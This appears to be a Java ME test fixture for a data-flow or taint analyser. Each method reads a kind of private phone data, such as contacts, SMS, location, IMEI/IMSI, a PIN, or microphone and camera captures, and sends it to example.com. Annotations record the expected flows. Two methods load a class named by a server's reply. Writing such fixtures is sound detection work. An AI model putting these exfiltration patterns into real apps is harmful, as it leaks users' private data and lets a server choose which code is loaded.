package flowkinds;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.InputStream;
import java.util.Enumeration;
import javax.bluetooth.DeviceClass;
import javax.bluetooth.DiscoveryListener;
import javax.bluetooth.LocalDevice;
import javax.bluetooth.RemoteDevice;
import javax.bluetooth.ServiceRecord;
import javax.microedition.contactless.ndef.NDEFTagConnection;
import javax.microedition.contactless.visual.VisualTagConnection;
import javax.microedition.io.Connector;
import javax.microedition.io.HttpConnection;
import javax.microedition.io.PushRegistry;
import javax.microedition.io.ServerSocketConnection;
import javax.microedition.io.StreamConnection;
import javax.microedition.io.file.FileConnection;
import javax.microedition.lcdui.TextBox;
import javax.microedition.lcdui.TextField;
import javax.microedition.location.Coordinates;
import javax.microedition.location.Location;
import javax.microedition.location.LocationProvider;
import javax.microedition.media.Manager;
import javax.microedition.media.Player;
import javax.microedition.media.control.RecordControl;
import javax.microedition.media.control.VideoControl;
import javax.microedition.pim.Contact;
import javax.microedition.pim.ContactList;
import javax.microedition.pim.Event;
import javax.microedition.pim.EventList;
import javax.microedition.pim.PIM;
import javax.microedition.rms.RecordStore;
import javax.wireless.messaging.BinaryMessage;
import javax.wireless.messaging.Message;
import javax.wireless.messaging.MessageConnection;
import javax.wireless.messaging.TextMessage;

/** Each kind of source into a request; text of a server into a platform request. */
final class Sources {
    private Sources() {
    }

    static void run() throws Exception {
        contact();
        ownContact();
        calendar();
        message();
        sender();
        binaryMessage();
        file();
        location();
        subscriber();
        device();
        otherProperty();
        typed();
        password();
        recording();
        picture();
        header();
        server();
        push();
        inquiry();
        bluetoothStream();
        nfc();
        barcode();
        record();
        emptyMessage();
    }

    //# source-contact
    static void contact() throws Exception {
        ContactList list = (ContactList) PIM.getInstance().openPIMList(1, 1);
        Enumeration e = list.items();
        while (e.hasMoreElements()) {
            Contact c = (Contact) e.nextElement();
            Connector.open("http://example.com/?q=" + c.getString(115, 0)); //@ tel Contact.getString //! flow contact@tel -> network to=Connector.open argument=url path=Sources.contact
        }
    }

    //# contact-that-the-application-made negative
    static void ownContact() throws Exception {
        ContactList list = (ContactList) PIM.getInstance().openPIMList(1, 3);
        Contact c = list.createContact();
        c.addString(115, 0, "+3361234567");
        Connector.open("http://example.com/?n=" + c.countValues(115)); //! no flow contact -> network
        Contact first = (Contact) list.items().nextElement();
        Connector.open("http://example.com/?q=" + first.getString(105, 0)); //@ name Contact.getString //! flow contact@name -> network to=Connector.open argument=url path=Sources.ownContact
    }

    //# source-calendar
    static void calendar() throws Exception {
        EventList list = (EventList) PIM.getInstance().openPIMList(2, 1);
        Event event = (Event) list.items().nextElement();
        Connector.open("http://example.com/?q=" + event.getString(107, 0)); //@ summary Event.getString //! flow calendar@summary -> network to=Connector.open argument=url path=Sources.calendar
    }

    //# source-message
    static void message() throws Exception {
        MessageConnection c = (MessageConnection) Connector.open("sms://:5000");
        TextMessage m = (TextMessage) c.receive();
        Connector.open("http://example.com/?q=" + m.getPayloadText()); //@ text TextMessage.getPayloadText //! flow message@text -> network to=Connector.open argument=url path=Sources.message
    }

    //# source-address-of-a-message
    static void sender() throws Exception {
        MessageConnection c = (MessageConnection) Connector.open("sms://:5000");
        Message m = c.receive();
        Connector.open("http://example.com/?q=" + m.getAddress()); //@ address Message.getAddress //! flow message@address -> network to=Connector.open argument=url path=Sources.sender
    }

    //# source-data-of-a-message
    static void binaryMessage() throws Exception {
        MessageConnection c = (MessageConnection) Connector.open("sms://:5000");
        byte[] data = ((BinaryMessage) c.receive()).getPayloadData(); //@ data BinaryMessage.getPayloadData
        Connector.openOutputStream("http://example.com/").write(data); //! flow message@data -> network to=OutputStream.write argument=1 path=Sources.binaryMessage
    }

    //# message-that-the-application-made negative
    static void emptyMessage() throws Exception {
        MessageConnection c = (MessageConnection) Connector.open("sms://+3361234567");
        TextMessage own = (TextMessage) c.newMessage("text");
        own.setPayloadText("plain");
        Connector.open("http://example.com/?q=" + own.getPayloadText()); //! no flow message -> network
        TextMessage got = (TextMessage) c.receive();
        Connector.open("http://example.com/?q=" + got.getPayloadText()); //@ text TextMessage.getPayloadText //! flow message@text -> network to=Connector.open argument=url path=Sources.emptyMessage
    }

    //# source-file
    static void file() throws Exception {
        FileConnection f = (FileConnection) Connector.open("file:///root1/diary.txt", 1);
        InputStream in = f.openInputStream(); //@ opened FileConnection.openInputStream
        byte[] data = new byte[100];
        in.read(data);
        Connector.open("http://example.com/?q=" + new String(data)); //! flow file@opened -> network to=Connector.open argument=url path=Sources.file
    }

    //# source-location
    static void location() throws Exception {
        Location location = LocationProvider.getInstance(null).getLocation(60);
        Coordinates c = location.getQualifiedCoordinates();
        Connector.open("http://example.com/?lat=" + c.getLatitude()); //@ latitude Coordinates.getLatitude //! flow location@latitude -> network to=Connector.open argument=url path=Sources.location
    }

    //# source-subscriber-id
    static void subscriber() throws Exception {
        String imsi = System.getProperty("com.nokia.mid.imsi"); //@ imsi System.getProperty
        Connector.open("http://example.com/?q=" + imsi); //! flow subscriber-id@imsi -> network to=Connector.open argument=url path=Sources.subscriber
    }

    //# source-device-id
    static void device() throws Exception {
        String imei = System.getProperty("com.nokia.mid.imei"); //@ imei System.getProperty
        Connector.open("http://example.com/?q=" + imei); //! flow device-id@imei -> network to=Connector.open argument=url path=Sources.device
    }

    //# property-that-identifies-nobody negative
    static String property(String key) {
        return System.getProperty(key); //@ imei System.getProperty
    }

    static void otherProperty() throws Exception {
        String locale = property("microedition.locale");
        Connector.open("http://example.com/?q=" + locale); //! no flow device-id -> network //! no flow subscriber-id -> network
        String imei = property("com.nokia.mid.imei");
        Connector.open("http://example.com/?q=" + imei); //! flow device-id@imei -> network to=Connector.open argument=url path=Sources.property>Sources.otherProperty
    }

    //# source-typed-text
    static void typed() throws Exception {
        TextBox box = new TextBox("Text", "", 100, 0);
        Connector.open("http://example.com/?q=" + box.getString()); //@ typed TextBox.getString //! flow typed-text@typed -> network to=Connector.open argument=url path=Sources.typed
    }

    //# source-password negative
    static void password() throws Exception {
        TextField pin = new TextField("PIN", "", 8, 65536 | 2);
        TextField name = new TextField("Name", "", 8, 0);
        Connector.open("http://example.com/?p=" + pin.getString()); //@ pin TextField.getString //! flow password@pin -> network to=Connector.open argument=url path=Sources.password //! no flow typed-text -> network
        Connector.open("http://example.com/?n=" + name.getString()); //@ name TextField.getString //! flow typed-text@name -> network to=Connector.open argument=url path=Sources.password //! no flow password -> network
    }

    //# source-recording
    static void recording() throws Exception {
        Player player = Manager.createPlayer("capture://audio");
        player.realize();
        RecordControl control = (RecordControl) player.getControl("RecordControl");
        ByteArrayOutputStream sound = new ByteArrayOutputStream();
        control.setRecordStream(sound); //@ record RecordControl.setRecordStream
        control.startRecord();
        player.start();
        control.commit();
        Connector.openOutputStream("http://example.com/").write(sound.toByteArray()); //! flow recording@record -> network to=OutputStream.write argument=1 path=Sources.recording
    }

    //# source-picture
    static void picture() throws Exception {
        Player player = Manager.createPlayer("capture://video");
        player.realize();
        VideoControl video = (VideoControl) player.getControl("VideoControl");
        byte[] jpeg = video.getSnapshot("encoding=jpeg"); //@ shot VideoControl.getSnapshot
        Connector.openOutputStream("http://example.com/").write(jpeg); //! flow picture@shot -> network to=OutputStream.write argument=1 path=Sources.picture
    }

    //# source-header-of-a-server
    static void header() throws Exception {
        HttpConnection c = (HttpConnection) Connector.open("http://example.com/");
        Class.forName(c.getHeaderField("X-Plugin")); //@ header HttpConnection.getHeaderField //! flow server-text@header -> class-name to=Class.forName argument=name path=Sources.header
    }

    //# source-server-text
    static void server() throws Exception {
        DataInputStream in = Connector.openDataInputStream("socket://example.com:80"); //@ opened Connector.openDataInputStream
        Class.forName(in.readUTF()); //! flow server-text@opened -> class-name to=Class.forName argument=name path=Sources.server
    }

    //# source-push-data
    static void push() throws Exception {
        String[] waiting = PushRegistry.listConnections(true);
        ServerSocketConnection server = (ServerSocketConnection) Connector.open(waiting[0]);
        StreamConnection peer = server.acceptAndOpen();
        DataInputStream in = peer.openDataInputStream(); //@ opened InputConnection.openDataInputStream
        Connector.open("http://example.com/?q=" + in.readUTF()); //! flow push-data@opened -> network to=Connector.open argument=url path=Sources.push
    }

    //# source-bluetooth-device
    static void inquiry() throws Exception {
        LocalDevice.getLocalDevice().getDiscoveryAgent().startInquiry(0x9e8b33, new Found());
    }

    static class Found implements DiscoveryListener {
        public void deviceDiscovered(RemoteDevice device, DeviceClass kind) {
            try {
                String address = device.getBluetoothAddress(); //@ address RemoteDevice.getBluetoothAddress
                Connector.open("http://example.com/?q=" + address); //! flow bluetooth@address -> network to=Connector.open argument=url path=Sources$Found.deviceDiscovered
            } catch (Exception e) {
                return;
            }
        }

        public void servicesDiscovered(int id, ServiceRecord[] records) {
        }

        public void serviceSearchCompleted(int id, int answer) {
        }

        public void inquiryCompleted(int answer) {
        }
    }

    //# source-bluetooth-stream
    static void bluetoothStream() throws Exception {
        DataInputStream in = Connector.openDataInputStream("btspp://0123456789AF:1"); //@ opened Connector.openDataInputStream
        Connector.open("http://example.com/?q=" + in.readUTF()); //! flow bluetooth@opened -> network to=Connector.open argument=url path=Sources.bluetoothStream
    }

    //# source-nfc
    static void nfc() throws Exception {
        NDEFTagConnection tag = (NDEFTagConnection) Connector.open("ndef:rf;type=nfc;uid=04ABCDEF");
        byte[] data = tag.readNDEF().getRecord(0).getPayload(); //@ read NDEFRecord.getPayload
        Connector.openOutputStream("http://example.com/").write(data); //! flow nfc@read -> network to=OutputStream.write argument=1 path=Sources.nfc
    }

    //# source-barcode
    static void barcode() throws Exception {
        VisualTagConnection tag = (VisualTagConnection) Connector.open("vtag://");
        byte[] data = tag.readVisualTag(null, null, "QR"); //@ read VisualTagConnection.readVisualTag
        Connector.openOutputStream("http://example.com/").write(data); //! flow barcode@read -> network to=OutputStream.write argument=1 path=Sources.barcode
    }

    //# source-record
    static void record() throws Exception {
        RecordStore store = RecordStore.openRecordStore("notes", true);
        byte[] data = store.getRecord(1); //@ read RecordStore.getRecord
        Connector.openOutputStream("http://example.com/").write(data); //! flow record@read -> network to=OutputStream.write argument=1 path=Sources.record
    }
}
